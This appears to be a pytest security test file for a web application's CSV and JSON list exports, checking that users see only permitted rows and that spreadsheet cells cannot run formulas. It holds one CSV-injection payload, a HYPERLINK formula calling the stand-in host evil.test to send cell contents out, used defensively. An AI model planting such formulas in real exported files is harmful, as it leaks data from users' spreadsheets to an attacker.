"""S2: a file made of a list holds what its reader may see and nothing else; a spreadsheet that opens it runs nothing."""

import json
import logging

import pytest

from approvals.models import Request
from audit.models import Entry
from clusters.models import Drift
from registry.models import ModelVersion, RegisteredModel
from tests.pages.browsing import csv_of, text_of_file
from tests.security.world import CANARY

LISTS = ["/requests/", "/requests/?tab=mine", "/requests/?tab=decided", "/namespaces/?gone=true", "/audit/", "/inbox/", "/drift/"]
LISTS += ["/models/?gone=true", f"/models/{CANARY}-model/"]
FILTERS = ["", "team=vision", f"q={CANARY}", "actor=alice", "requester=alice", "ordering=team", "page_size=100", "page=2"]
FORMULA = '=HYPERLINK("http://evil.test/"&A1;"open")'


@pytest.fixture(autouse=True)
def quiet():
    logging.disable(logging.CRITICAL)
    yield
    logging.disable(logging.NOTSET)


def address(path, *parts):
    return path + ("&" if "?" in path else "?") + "&".join(filter(None, parts))


def told(client, path):
    """The text of the file; nothing where there is no such list for this person."""
    answer = client.get(path)
    return text_of_file(answer) if answer.status_code == 200 else ""


@pytest.mark.parametrize("form", ["csv", "json"])
@pytest.mark.parametrize("path", LISTS)
def test_another_teams_rows_are_in_no_file(world, path, form):
    for role in ("other", "nobody", "anon"):
        for query in FILTERS:
            assert CANARY not in told(world.client(role), address(path, f"format={form}", query)), f"{role}: {path} {query}"


@pytest.mark.parametrize(
    ("path", "role"), [("/requests/", "viewer"), ("/namespaces/", "viewer"), ("/audit/", "viewer"), ("/inbox/", "approver")]
)
def test_the_canary_is_in_the_files_of_those_who_may_see_it(world, path, role):
    assert CANARY in told(world.client(role), address(path, "format=csv"))


def test_the_file_of_the_audit_log_holds_what_its_reader_may_read(world):
    with_canary = {role: CANARY in told(world.client(role), "/audit/?format=json") for role in ("other", "viewer", "admin", "auditor")}
    assert with_canary == {"other": False, "viewer": True, "admin": True, "auditor": True}
    everything = {entry["id"] for entry in json.loads(told(world.client("auditor"), "/audit/?format=json"))}
    own = {entry["id"] for entry in json.loads(told(world.client("approver"), "/audit/?format=json"))}
    assert everything == set(Entry.objects.values_list("pk", flat=True))
    assert own == set(Entry.objects.filter(actor=world.people["dana"]).values_list("pk", flat=True))


@pytest.mark.parametrize("path", ["/drift/", "/inbox/"])
def test_a_list_that_is_not_there_for_somebody_has_no_file_either(world, path):
    assert [world.client(role).get(f"{path}?format=csv").status_code for role in ("nobody", "owner", "other")] == [404] * 3


@pytest.mark.parametrize("path", LISTS)
def test_no_cell_is_a_formula_whoever_wrote_it(world, path):
    Request.objects.update(title=FORMULA, justification=FORMULA, reason=FORMULA)
    Drift.objects.update(manager=FORMULA, name=FORMULA)
    RegisteredModel.objects.update(description=FORMULA)
    ModelVersion.objects.update(author=FORMULA)
    Entry.objects.create(actor_name=FORMULA, action="x", outcome="denied", subject_kind="x", subject_name=FORMULA)
    cells = [cell for row in csv_of(world.client("admin"), address(path, "format=csv")) for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert path in ("/namespaces/?gone=true", "/requests/?tab=mine") or f"'{FORMULA}" in cells
